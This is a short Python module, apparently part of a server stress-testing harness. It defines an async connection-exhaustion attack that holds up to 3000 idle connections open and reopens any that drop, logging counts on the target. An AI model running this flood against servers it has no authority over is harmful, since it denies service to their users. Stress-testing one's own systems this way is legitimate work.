"""As many connections as can be had, and not a word on any of them."""

import asyncio

from attacks.target import Target, Until, Wire

MOST = 3000  # connections
AT_ONCE = 50
LEAST = 600  # tried however slow the machine is: more than one address may have


async def attack(target: Target, seconds: float) -> None:
    """Connect, and connect again whatever is hung up on."""
    until, wires = Until(seconds), set[Wire]()
    try:
        while until or target.got["connected"] < LEAST:
            for wire in filter(_is_gone, tuple(wires)):
                wires.remove(wire)
                await wire.hang_up()
            if len(wires) < MOST:
                came = await asyncio.gather(*(target.connect() for _ in range(AT_ONCE)))
                wires |= {wire for wire in came if wire is not None}
                target.got["connected"] += AT_ONCE
            target.got["held at most"] = max(target.got["held at most"], len(wires))
            await asyncio.sleep(0.02)
    finally:
        for wire in wires:
            await wire.hang_up()


def _is_gone(wire: Wire) -> bool:
    return wire.reader.at_eof() or wire.reader.exception() is not None
